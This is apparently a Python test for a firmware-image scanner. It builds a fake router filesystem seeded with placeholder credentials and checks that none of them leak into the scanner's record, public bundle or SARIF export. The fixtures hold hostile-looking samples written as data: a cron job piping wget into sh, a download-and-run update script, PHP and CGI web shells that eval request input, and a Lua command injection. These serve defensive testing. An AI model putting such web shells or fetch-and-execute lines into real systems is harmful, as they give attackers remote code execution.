"""No secret of the usual forms leaves an image: not in the record, not in a public bundle, not in SARIF."""

import io
import zipfile
from pathlib import Path

from cupel.inspect.bundle.making import Asked, make_bundle
from cupel.inspect.export import Told, finding_export
from cupel.records.boundary import to_json
from cupel.records.equipment import Equipment
from made_image import examined

COUNT = 32
S = [f"Q{number:02}vz7" for number in range(COUNT)]
FILES = {
    "etc/inittab": "::sysinit:/etc/init.d/rcS\n",
    "etc/init.d/rcS": f"""#!/bin/sh
curl -H "Authorization: Bearer {S[0]}" https://api.vend.net/a
curl -H "Authorization: Basic {S[1]}" https://api.vend.net/b
curl -H "X-Api-Key: {S[2]}" https://api.vend.net/c
curl "https://api.vend.net/d?token={S[3]}&x=1"
curl "https://api.vend.net/d?password={S[4]}"
mosquitto_sub -h mq.vend.net -u dev --pw {S[5]} -t a
ldapsearch -x -D cn=a -w {S[6]} -H ldap://l.vend.net
lftp -u user,{S[7]} ftp.vend.net -e mirror
pppd user u password {S[8]} &
cwmpd --acs-url http://acs.vend.net/ --acs-pass {S[9]} &
stunnel -psk {S[10]}
rsync rsync://u:{S[11]}@r.vend.net/x .
RSYNC_PASSWORD={S[12]} rsync u@r.vend.net::x .
openvpn --auth-user-pass /x --http-proxy-user-pass {S[13]}
mysql -u root -p{S[14]} -h db.vend.net
sshpass -p {S[15]} ssh root@s.vend.net
""",
    "etc/crontabs/root": f"* * * * * wget http://a:{S[16]}@cron.vend.net/x?key={S[17]} -O- | sh\n",
    "usr/bin/up.sh": f'#!/bin/sh\nwget -O /tmp/f "http://u:{S[18]}@up.vend.net/f?key={S[19]}" '
    f"&& sh /tmp/f --token {S[20]}\n",
    "www/a.php": f'<?php mysqli_connect("db.vend.net","root","{S[21]}"); define("DB_PASSWORD", "{S[22]}"); '
    f'if ($_POST["p"]=="{S[23]}") {{ eval($_POST["e"]); }} system($_GET["c"]);\n',
    "www/cgi-bin/x.cgi": f'#!/bin/sh\n[ "$PW" = "{S[24]}" ] && eval "$QUERY_STRING"\n',
    "usr/lib/a.lua": f'os.execute("curl -u a:{S[25]} http://lua.vend.net/" .. http.formvalue("x"))\n',
    "etc/default.xml": f'<X><AdminPassword>abcdefg1</AdminPassword><X_TelnetPasswd value="{S[26]}"/></X>\n',
    "etc/config/network": f"config wireguard_wg0\n\toption private_key '{S[27]}{'A' * 37}='\n"
    f"\toption preshared_key '{S[28]}{'A' * 37}='\n",
    "etc/redis.conf": f"requirepass {S[29]}\n",
    "etc/snmp/snmpd.conf": f'createUser u MD5 "{S[30]}" DES abcdefg2\ntrap2sink 10.1.1.1 {S[31]}\n',
}


def test_secrets_of_every_form_stay_in_the_image(tmp_path: Path) -> None:
    found = examined(tmp_path, FILES)
    assert {"access/web_shells", "access/update_without_signature"} <= {it.detector for it in found.findings}
    item = Equipment("fw", tmp_path / "root", "Maker", "Router", "1.0")
    _, bundle = make_bundle(item, found, Asked("public"))
    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        members = b"\n".join(archive.read(name) for name in archive.namelist())
    sarif = finding_export("sarif").write(Told(item, found))
    told = {
        "record": to_json(found), "bundle": members, "SARIF": sarif if isinstance(sarif, bytes) else sarif.encode()
    }  # fmt: skip
    assert [(where, secret) for where, text in told.items() for secret in S if secret.encode() in text] == []
    assert b"up.vend.net" in told["record"]
